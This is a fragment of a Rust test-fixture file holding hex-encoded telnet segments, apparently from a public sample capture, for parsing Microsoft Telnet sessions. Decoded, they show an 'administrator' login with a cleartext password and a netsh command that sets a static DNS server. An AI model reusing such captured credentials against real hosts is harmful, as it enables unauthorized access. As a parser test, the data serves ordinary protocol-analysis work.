            "3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d",
            "3d0d0a433a5c55736572735c41646d696e6973747261746f723e",
        ),
    ),
    (
        C,
        concat!(
            "6e6574736820696e746572666163652069702073657420646e7320224c6f63616c20417265612043",
            "6f6e6e656374696f6e2220737461746963203139322e3136382e3132322e32207072696d6172790d",
        ),
    ),
    (
        S,
        concat!(
            "6e6574736820696e746572666163652069702073657420646e7320224c6f63616c20417265612043",
            "6f6e6e656374696f6e2220737461746963203139322e3136382e3132322e32207072696d6172790d",
            "0a",
        ),
    ),
    (C, "0a"),
];

/// telnet-ms-telnet-logins-in-mixed-traffic.pcap tcp.stream 71, first 16 segments.
const MS_STREAM_71: &[(Direction, &str)] = &[
    (C, "fffd03fffb18fffb1ffffb20fffb21fffb22fffb27fffd05"),
    (S, "fffd25fffb01fffb03fffd27fffd1ffffd00fffb00"),
    (C, "fffc25fffd01fffa1f00500018fff0fffb00fffd00"),
    (
        S,
        concat!(
            "fffd18fffe20fffe21fffe22fffa2701fff0fffa270103534655544c4e5456455203534655544c4e",
            "544d4f4445fff0fffc0557656c636f6d6520746f204d6963726f736f66742054656c6e6574205365",
            "7276696365200d0a",
        ),
    ),
    (
        C,
        concat!(
            "fffa270000555345520161646d696e6973747261746f72fff0fffa270003534655544c4e54564552",
            "03534655544c4e544d4f4445fff0",
        ),
    ),
    (S, "0a0d70617373776f72643a20"),
    (C, "70656e6775696e0d"),
    (S, "fffa1801fff0"),
    (C, "fffa1800585445524dfff0"),
    (S, "fffa1801fff0"),
    (C, "fffa1800585445524dfff0"),
    (C, "0a"),
    (
        S,
        concat!(
            "0d0a0d0a2a3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d",
            "3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d0d0a4d6963726f736f667420",
            "54656c6e6574205365727665722e0d0a2a3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d",
            "3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d",
            "0d0a433a5c55736572735c41646d696e6973747261746f723e",
        ),
    ),
    (C, "646174650d"),
    (
        S,
        concat!(
            "0a646174650d0a5468652063757272656e7420646174652069733a205765642030392f31322f3230",
            "3132200d0a456e74657220746865206e657720646174653a20286d6d2d64642d79792920",
        ),
    ),
    (C, "0a"),
];

/// telnet-ms-telnet-logins-in-mixed-traffic.pcap tcp.stream 84, first 16 segments.
const MS_STREAM_84: &[(Direction, &str)] = &[
    (C, "fffd03fffb18fffb1ffffb20fffb21fffb22fffb27fffd05"),
    (S, "fffd25fffb01fffb03fffd27fffd1ffffd00fffb00"),
    (C, "fffc25fffd01fffa1f00500018fff0fffb00fffd00"),
    (
        S,
        concat!(
            "fffd18fffe20fffe21fffe22fffa2701fff0fffa270103534655544c4e5456455203534655544c4e",
            "544d4f4445fff0fffc05",
        ),
    ),
    (
        C,
        concat!(
            "fffa270000555345520161646d696e6973747261746f72fff0fffa270003534655544c4e54564552",
            "03534655544c4e544d4f4445fff0",
        ),
    ),
    (
        S,
        "57656c636f6d6520746f204d6963726f736f66742054656c6e65742053657276696365200d0a",
    ),
    (S, "0a0d70617373776f72643a20"),
    (C, "70656e6775696e0d"),
    (S, "fffa1801fff0"),
    (C, "fffa1800585445524dfff0"),
    (S, "fffa1801fff0"),
    (C, "fffa1800585445524dfff0"),
    (C, "0a"),
    (
        S,
        concat!(
            "0d0a0d0a2a3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d",
            "3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d0d0a4d6963726f736f667420",
            "54656c6e6574205365727665722e0d0a2a3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d",
            "3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d",
            "0d0a433a5c55736572735c41646d696e6973747261746f723e",
        ),
    ),
    (
        C,
        concat!(
            "6e6574736820696e746572666163652069702073657420646e7320224c6f63616c20417265612043",
            "6f6e6e656374696f6e2220737461746963203139322e3136382e3132322e32207072696d6172790d",
        ),
    ),
    (
        S,
        concat!(
            "0a6e6574736820696e746572666163652069702073657420646e7320224c6f63616c204172656120",
            "436f6e6e656374696f6e2220737461746963203139322e3136382e3132322e32207072696d617279",
            "0d0a0d0a0d0a433a5c55736572735c41646d696e6973747261746f723e",
        ),
    ),
];
